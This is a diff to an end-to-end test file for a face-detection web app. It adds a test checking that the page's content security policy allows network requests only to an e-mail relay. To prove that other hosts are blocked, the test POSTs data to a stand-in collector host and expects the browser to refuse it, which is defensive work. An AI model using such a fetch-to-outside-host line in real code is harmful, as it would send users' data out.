@@ -1,7 +1,8 @@
 /**
  * Threads on any static host: the built app served by a plain file server (no COOP/COEP headers) is not
  * cross-origin isolated on its first load; its service worker then serves it with those headers, so from
- * the second load on it is, offline too, and the face engine runs WebAssembly on several threads.
+ * the second load on it is, offline too, and the face engine runs WebAssembly on several threads. All of it
+ * under the built page's content security policy, which refuses requests to any host but the relay's.
  */
 import { mkdtempSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -69,6 +70,41 @@ describe('cross-origin isolation from the service worker', () => {
       expect(offline.faces).toBe(String(NPM_PHOTOS.sample6.faces));
       expect(offline.threads).toBe(Math.min(cores, 8));
       expect(errors).toEqual([]);
+    } finally {
+      await context.close();
+    }
+  });
+
+  it('runs under a content security policy that lets only the e-mail relay out', async () => {
+    const context = await launchChromium({ camera });
+    try {
+      const page = await context.newPage();
+      const violations: string[] = [];
+      page.on('console', (m) => {
+        if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
+      });
+      await page.goto(`${app.url}#/settings`);
+      const policy = await page.evaluate(
+        () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+      );
+      expect(policy).toMatch(/connect-src 'self' https:\/\/api\.emailjs\.com;/);
+      // The engine (workers, WebAssembly, models) works under it: the camera check finds the four faces.
+      expect((await cameraCheck(page)).faces).toBe(String(NPM_PHOTOS.sample6.faces));
+      expect(violations).toEqual([]);
+      // A request to any other host is refused by the browser itself, before any network.
+      const refused = await page.evaluate(async () => {
+        const blocked = new Promise<string>((done) =>
+          document.addEventListener('securitypolicyviolation', (e) => done(`${e.violatedDirective} ${e.blockedURI}`), {
+            once: true,
+          }),
+        );
+        const fetched = await fetch('https://collector.example/upload', { method: 'POST', body: 'faces' }).then(
+          () => 'sent',
+          () => 'refused',
+        );
+        return `${fetched}: ${await blocked}`;
+      });
+      expect(refused).toBe('refused: connect-src https://collector.example/upload');
     } finally {
       await context.close();
     }
